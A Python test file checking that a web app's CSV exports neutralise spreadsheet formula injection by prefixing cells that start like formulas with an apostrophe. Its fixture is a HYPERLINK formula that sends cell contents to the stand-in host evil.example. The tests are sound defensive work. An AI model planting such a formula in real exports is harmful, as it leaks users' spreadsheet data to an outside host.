"""Cells of CSV files stay text in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from monitor.schema import open_store
from monitor.web.plugins.csv_cells import as_text, row_as_text
from tests.browsing import browse
from tests.stores import saved_day

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Read, on")\nnext line'


@pytest.mark.parametrize("cell", [FORMULA, "+1-800", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "=1", "-"])
def test_what_begins_like_a_formula(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Ferry returns", "-3", "+4.5", "-1e-05", "2026-10-14", "“=1”", " =1"])
def test_what_does_not(cell: str) -> None:
    assert as_text(cell) == cell


def test_rows_are_whole() -> None:
    row = io.StringIO()
    csv.writer(row).writerow([1, 'a "b", c', FORMULA, "x\r\ny"])
    (cells,) = csv.reader(io.StringIO(row_as_text(row.getvalue().encode()).decode(), newline=""))
    assert cells == ["1", 'a "b", c', f"'{FORMULA}", "x\r\ny"]


def test_a_formula_in_a_headline(tmp_path: Path) -> None:
    saved_day(tmp_path / "news.db")
    db = open_store(tmp_path / "news.db")
    db.conn.execute("UPDATE articles SET title = ? WHERE id = 1", [FORMULA])
    db.conn.commit()
    db.close()
    with browse(tmp_path / "news.db") as site:
        for path in (
            "news/articles.csv?_stream=1",
            "news.csv?sql=select+*+from+articles",
            "news/articles.csv?_dl=1",
        ):
            text = site.get(path)
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            assert f"'{FORMULA}" in [row["title"] for row in rows]
            assert len(rows) == len(site.json("news/articles.json?_shape=array&_size=max"))
        assert site.json("news/articles/1.json?_shape=array")[0]["title"] == FORMULA
